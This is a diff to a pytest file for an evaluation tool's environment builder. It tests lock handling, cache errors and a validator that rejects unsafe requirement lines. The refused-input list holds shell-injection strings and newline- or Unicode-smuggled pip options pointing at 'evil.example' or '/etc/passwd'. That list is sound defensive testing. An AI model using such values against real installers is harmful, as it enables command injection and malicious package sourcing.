@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import fcntl
+import os
 import subprocess
 import sys
 import zipfile
@@ -9,8 +11,9 @@ from pathlib import Path
 
 import pytest
 from commandkit import Start, ask
-from vgen_eval.errors import NotRunnable, UsageError
+from vgen_eval.errors import NotRunnable, StorageError, UsageError
 from vgen_eval_plugins.models.command.environment import (
+    _locked,
     build_environment,
     environments_root,
 )
@@ -60,17 +63,25 @@ def check_use(python: Path) -> None:
     assert subprocess.check_output([python.parent / "tiny"], text=True) == "42\n"
 
 
-def test_an_environment_is_built_once_and_used_again(tmp_path: Path) -> None:
-    write_wheel(tmp_path)
-    wanted = requirements(tmp_path, f"./{WHEEL}")
+def test_an_environment_is_built_once_and_used_again(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = tmp_path / "a folder, größer"
+    folder.mkdir()
+    write_wheel(folder)
+    monkeypatch.setenv("PIP_TARGET", str(folder / "elsewhere"))
+    monkeypatch.setenv("UV_SYSTEM_PYTHON", "1")
+    monkeypatch.setenv("PYTHONPATH", str(folder))
+    wanted = requirements(folder, f"./{WHEEL}")
     python = build_environment(None, wanted)
     assert python.is_relative_to(tmp_path / "cache" / "envs")
     check_use(python)
     made = (python.parent.parent / "vgen-eval.json").stat().st_mtime_ns
     assert build_environment(None, wanted) == python
     assert (python.parent.parent / "vgen-eval.json").stat().st_mtime_ns == made
-    write_wheel(tmp_path, value=43)  # another package, though named alike
-    assert build_environment(None, requirements(tmp_path, f"./{WHEEL}")) != python
+    assert not (folder / "elsewhere").exists()
+    write_wheel(folder, value=43)  # another package, though named alike
+    assert build_environment(None, requirements(folder, f"./{WHEEL}")) != python
 
 
 def test_a_build_that_fails_names_why_and_leaves_nothing(tmp_path: Path) -> None:
@@ -90,6 +101,39 @@ def test_a_build_that_was_killed_halfway_is_made_anew(tmp_path: Path) -> None:
     (python.parent.parent / "half").touch()
     assert build_environment(None, wanted) == python
     assert not (python.parent.parent / "half").exists()
+
+
+def test_an_installer_that_outlives_its_builder_keeps_the_lock(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    lock = tmp_path / "one.lock"
+    with _locked(lock) as held:
+        child = subprocess.Popen(["sleep", "60"], pass_fds=(held,))
+    try:
+        with lock.open() as other, pytest.raises(BlockingIOError):
+            fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    finally:
+        child.kill()
+        child.wait()
+    with _locked(lock):
+        pass
+    write_wheel(tmp_path)
+    program = tmp_path / "uv"  # tells which descriptors it was given beside its own three
+    program.write_text("#!/bin/sh\nls -l /proc/$$/fd >&2\nexit 1\n")
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
+    with pytest.raises(NotRunnable, match=r"\.lock"):
+        build_environment(None, requirements(tmp_path, f"./{WHEEL}"), builder="uv")
+
+
+def test_a_cache_that_cannot_be_written_is_told(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "file").touch()
+    monkeypatch.setenv("VGEN_CACHE", str(tmp_path / "file"))
+    with pytest.raises(StorageError, match="Not a directory") as caught:
+        build_environment(None, requirements(tmp_path))
+    assert caught.value.cure == "VGEN_CACHE=DIR"
 
 
 def test_two_processes_that_want_the_same_build_it_once(tmp_path: Path) -> None:
@@ -148,7 +192,7 @@ def test_requirements_are_names_https_addresses_and_files_of_the_folder(tmp_path
         "net @ git+https://example.org/net.git@0123abc", "https://example.org/net-1.0.tar.gz",
     )  # fmt: skip
     found = requirements(tmp_path, *sound, f"./{WHEEL}", WHEEL, f"file:{WHEEL}")
-    assert found.lines == (*sound, *[str(tmp_path / WHEEL)] * 3)
+    assert found.lines == (*sound, *[(tmp_path / WHEEL).as_uri()] * 3)
 
 
 @pytest.mark.parametrize(
@@ -159,7 +203,13 @@ def test_requirements_are_names_https_addresses_and_files_of_the_folder(tmp_path
         "net @ http://example.org/net.whl", "https://user:secret@example.org/net.whl",
         "net @ file:///etc/net.whl", "/etc/net.whl", "../net.whl", "file:///net.whl",
         "./absent.whl", "${SECRET}", "https://example.org/${HF_TOKEN}/net.whl", "a b", "a\nb", "",
-        "numpy; $(id)", "numpy \\", "net @ ../x",
+        "numpy; $(id)", "numpy \\", "net @ ../x", "numpy; `id`", "numpy && id", "numpy | sh",
+        # what would begin another line of the file, or an option on this one
+        "numpy; os_name\n--index-url https://evil.example", "numpy\n==1.0", "numpy[a\n]",
+        "numpy; os_name\x0b-e .", "numpy; os_name\u2028--pre", "numpy; os_name\r-r /etc/passwd",
+        "net @ https://example.org/net.whl; os_name\n-e .",
+        "numpy; os_name == 'posix' --index-url https://evil.example",
+        "numpy; os_name == ' --pre'", "numpy; " + "a" * 60 + "!", "numpy; " + "a " * 9000 + "!",
     ],
 )  # fmt: skip
 def test_what_is_no_plain_requirement_is_refused(tmp_path: Path, line: str) -> None:
